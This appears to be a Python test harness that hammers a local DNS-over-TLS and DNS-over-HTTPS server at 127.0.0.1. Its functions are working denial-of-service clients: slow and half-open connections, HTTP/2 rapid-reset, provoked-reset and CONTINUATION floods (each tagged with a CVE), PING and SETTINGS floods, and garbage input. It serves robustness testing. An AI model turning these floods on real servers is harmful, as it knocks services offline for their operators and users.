"""Clients that abuse TLS and HTTPS listeners. Each is a function that does one bounded thing to a server and returns; a process
calls it over and over."""

import contextlib
import os
import random
import socket
import ssl
import struct
import time

SECONDS_MAX = 5  # of one call
HALF_OPEN = 100
SLOW_CONNECTIONS = 50
BURST_FRAMES = 500

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# POST https://dns.test/dns-query with content-type application/dns-message, all literals that are not kept (RFC 7541 6.2.2).
FIELDS = b"\x83\x87\x04\x0a/dns-query\x01\x08dns.test\x0f\x10\x17application/dns-message"


def frame(kind, flags, stream, content=b""):
    return struct.pack("!I", len(content))[1:] + struct.pack("!BBI", kind, flags, stream) + content


def context(alpn):
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([alpn])
    return made


CONTEXTS = {alpn: context(alpn) for alpn in ("dot", "h2", "http/1.1")}


def plain(port):
    return socket.create_connection(("127.0.0.1", port), SECONDS_MAX)


def shaken(port, alpn):
    """A connection after its handshake."""
    return CONTEXTS[alpn].wrap_socket(plain(port))


def h2(ports):
    stream = shaken(ports["https"], "h2")
    stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return stream


def drain(stream):
    """Reads until the server closes, or has nothing to say for a moment."""
    stream.settimeout(0.2)
    with contextlib.suppress(TimeoutError):
        while stream.recv(65536):
            pass


def handshakes(ports):
    with shaken(ports[random.choice(("tls", "https"))], random.choice(("dot", "h2"))) as _:
        pass


def hellos(ports):
    """Handshakes that end when the server has done its part."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = CONTEXTS["dot"].wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    with plain(ports["tls"]) as stream:
        stream.sendall(outgoing.read())
        stream.recv(1)


def half_open(ports):
    with contextlib.ExitStack() as stack:
        for number in range(HALF_OPEN):
            stream = stack.enter_context(plain(ports[("tls", "https")[number % 2]]))
            # Nothing, or the beginning of a ClientHello.
            stream.sendall(b"\x16\x03\x01\x02\x00\x01"[: number % 7])
        time.sleep(SECONDS_MAX)


def slowly(ports, port, alpn, octets):
    with contextlib.ExitStack() as stack:
        streams = [stack.enter_context(shaken(ports[port], alpn)) for _ in range(SLOW_CONNECTIONS)]
        end = time.monotonic() + SECONDS_MAX
        for at in range(len(octets)):
            for stream in streams:
                stream.sendall(octets[at : at + 1])
            time.sleep(0.2)
            if time.monotonic() > end:
                return


def slow_dot(ports):
    slowly(ports, "tls", "dot", b"\x01\x00" + bytes(100))


def slow_http1(ports):
    slowly(ports, "https", "http/1.1", b"POST /dns-query HTTP/1.1\r\nHost: dns.test\r\nX: " + b"x" * 100)


def slow_http2(ports):
    slowly(ports, "https", "h2", PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, FIELDS))


def burst(ports, make):
    """As many frames of make(number) as a connection is allowed, and more."""
    with h2(ports) as stream:
        for begin in range(0, 10 * BURST_FRAMES, BURST_FRAMES):
            stream.sendall(b"".join(make(number) for number in range(begin, begin + BURST_FRAMES)))
        drain(stream)


def rapid_reset(ports):  # CVE-2023-44487
    burst(ports, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, FIELDS) + frame(RESET, 0, 2 * n + 1, b"\0\0\0\x08"))


def provoked_reset(ports):  # CVE-2025-8671
    burst(ports, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, FIELDS) + frame(WINDOW_UPDATE, 0, 2 * n + 1, b"\0\0\0\0"))


def pings(ports):
    burst(ports, lambda n: frame(PING, 0, 0, struct.pack("!Q", n)))


def settings(ports):
    burst(ports, lambda n: frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535 + n)))


def continuations(ports):  # CVE-2024-27316
    begin = frame(HEADERS, 0, 1, FIELDS)
    burst(ports, lambda n: begin if n == 0 else frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 20))


def empty_data(ports):
    begin = frame(HEADERS, END_HEADERS, 1, FIELDS)
    burst(ports, lambda n: begin if n == 0 else frame(DATA, 0, 1))


def garbage(ports):
    port = ports[random.choice(("tls", "https"))]
    octets = os.urandom(random.randrange(1, 20_000))
    place = random.randrange(4)
    with plain(port) if place == 0 else h2(ports) if place == 1 else shaken(port, ("dot", "h2")[place - 2]) as stream:
        stream.sendall(octets)
        drain(stream)


def aborted_uploads(ports):
    with h2(ports) as stream:
        for number in range(50):
            place = 2 * number + 1
            stream.sendall(frame(HEADERS, END_HEADERS, place, FIELDS) + frame(DATA, 0, place, bytes(1000)))
    with shaken(ports["https"], "http/1.1") as stream:
        head = "POST /dns-query HTTP/1.1\r\nHost: dns.test\r\nContent-Type: application/dns-message\r\nContent-Length: 60000\r\n\r\n"
        stream.sendall(head.encode() + bytes(30_000))
    # The rest of a query that never comes.
    with shaken(ports["tls"], "dot") as stream:
        stream.sendall(b"\xff\xff" + bytes(1000))


ALL = (
    handshakes, hellos, half_open, slow_dot, slow_http1, slow_http2, rapid_reset, provoked_reset, pings, settings, continuations,
    empty_data, garbage, aborted_uploads,
)  # fmt: skip
